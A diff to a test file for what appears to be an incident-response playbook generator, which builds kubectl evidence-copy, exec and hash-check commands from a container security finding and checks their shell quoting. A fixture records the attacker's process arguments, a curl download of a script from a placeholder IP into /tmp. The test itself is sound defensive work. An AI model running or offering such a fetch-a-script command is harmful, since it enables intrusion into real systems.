@@ -169,8 +169,12 @@ describe('step 5 commands', () => {
   test('kubectl cp and kubectl exec as the playbook writes them', () => {
     const a = buildPlaybookArtefacts(incident());
     assert.deepEqual(a.commands.copyBinary?.argv, ['kubectl', 'cp', `payments/${POD}:/usr/bin/curl`, '-c', 'checkout', 'scc-evidence-a6e3b2c9f0d14e8f9b7c5a4d3e2f1a0b.bin']);
-    assert.equal(a.commands.copyBinary?.shell, `kubectl cp payments/${POD}\\:/usr/bin/curl -c checkout scc-evidence-a6e3b2c9f0d14e8f9b7c5a4d3e2f1a0b.bin`);
+    assert.equal(a.commands.copyBinary?.shell, `kubectl cp payments/${POD}:/usr/bin/curl -c checkout scc-evidence-a6e3b2c9f0d14e8f9b7c5a4d3e2f1a0b.bin`);
     assert.deepEqual(a.commands.shell?.argv, ['kubectl', 'exec', '--namespace=payments', '-ti', POD, '-c', 'checkout', '--', '/bin/sh']);
+    // Plain words stay as a person writes them; quoting is only where the shell needs it.
+    assert.equal(a.commands.shell?.shell, `kubectl exec --namespace=payments -ti ${POD} -c checkout -- /bin/sh`);
+    assert.equal(shellJoin(['echo', "it's", '$HOME', 'a b', '']), `echo 'it'\\''s' '$HOME' 'a b' ''`);
+    assert.equal(shellJoin(['X=1', 'Y=2']), `'X=1' Y=2`, 'a first word with = would be an assignment');
     assert.deepEqual(a.commands.verifyCopy?.argv, ['sha256sum', 'scc-evidence-a6e3b2c9f0d14e8f9b7c5a4d3e2f1a0b.bin']);
     assert.match(a.commands.verifyCopy?.note ?? '', /9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08/);
     assert.match(a.commands.copyBinary?.note ?? '', /tar inside the compromised container/);
@@ -250,7 +254,7 @@ describe('sections and secrets', () => {
     const step1 = Object.fromEntries(a.sections[0]!.items.map((i) => [i.label, i]));
     assert.equal(step1['Program binary']?.value, '/usr/bin/curl');
     assert.equal(step1['Program binary']?.source, 'finding.processes[0].binary.path');
-    assert.equal(step1['Arguments']?.value, '/usr/bin/curl -s http\\://203.0.113.50/x.sh -o /tmp/x');
+    assert.equal(step1['Arguments']?.value, '/usr/bin/curl -s http://203.0.113.50/x.sh -o /tmp/x');
     assert.equal(step1['Container']?.value, 'checkout');
     assert.equal(step1['Container URI']?.value, 'us-docker.pkg.dev/acme-payments-prod/apps/checkout:2.14.1');
     assert.equal(step1['Resource full name']?.value, '//container.googleapis.com/projects/acme-payments-prod/locations/us-central1/clusters/payments');
